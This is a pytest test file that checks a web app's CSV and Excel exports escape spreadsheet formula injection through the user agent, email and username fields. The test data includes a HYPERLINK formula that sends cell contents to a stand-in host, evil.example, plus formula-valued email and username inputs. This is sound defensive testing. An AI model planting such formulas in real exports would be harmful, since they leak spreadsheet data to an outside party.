"""Formula injection: every CSV and XLSX export shows attacker-chosen text, never runs it."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.api_helpers import BASE, bearer, tokens_for
from tests.helpers import login
from webapp.services.spreadsheets import safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_EMAIL = "=1+2@example.com"  # a valid address that a spreadsheet would compute


@pytest.fixture
def app(app_factory):
    return app_factory(RATELIMIT_ENABLED=False)


@pytest.mark.parametrize(
    "value, shown",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (-1, -1),  # numbers stay numbers
        (None, None),
    ],
)
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def test_account_csv_export_neutralises_a_user_agent(client, user_factory):
    victim = user_factory(email="victim@example.com")
    login(client, victim.email, headers={"User-Agent": HYPERLINK})
    cells = _cells(_csv(client.get("/account/export.csv")))
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith("=") for cell in cells)


def test_admin_attempts_csv_export_neutralises_the_email_tried(app, client, actor):
    app.test_client().post("/auth/login", data={"email": FORMULA_EMAIL, "password": "x" * 8})
    actor("staff")
    cells = _cells(_csv(client.get("/admin/admin_attempts/export/csv/")))
    assert "'" + FORMULA_EMAIL in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.fixture
def formula_user(user_factory, client):
    """A user whose username and email a spreadsheet would run, with one sign-in."""
    user = user_factory(email=FORMULA_EMAIL, username="-2+3", role="staff")
    login(client, FORMULA_EMAIL)
    return user


def _workbook_values(response) -> list:
    assert response.status_code == 200, response.status_code
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    return [cell.value for cell in cells]


REPORTS = [
    ("web", "/dashboard/admin/report.xlsx?user_ids[]={id}"),
    ("web", "/dashboard/admin/report.xlsx?mode=grouped&user_ids[]={id}"),
    ("api", BASE + "/dashboard/report/download/"),
    ("api", BASE + "/dashboard/report/download/?mode=grouped&user_ids[]={id}"),
]


@pytest.mark.parametrize("how, path", REPORTS)
def test_excel_reports_write_formula_text_as_text(app, client, formula_user, how, path):
    headers = {}
    if how == "api":
        client = app.test_client()
        headers = bearer(tokens_for(client, formula_user)["access"])
    values = _workbook_values(client.get(path.format(id=formula_user.id), headers=headers))
    assert "'" + FORMULA_EMAIL in values and "'-2+3" in values
    assert FORMULA_EMAIL not in values
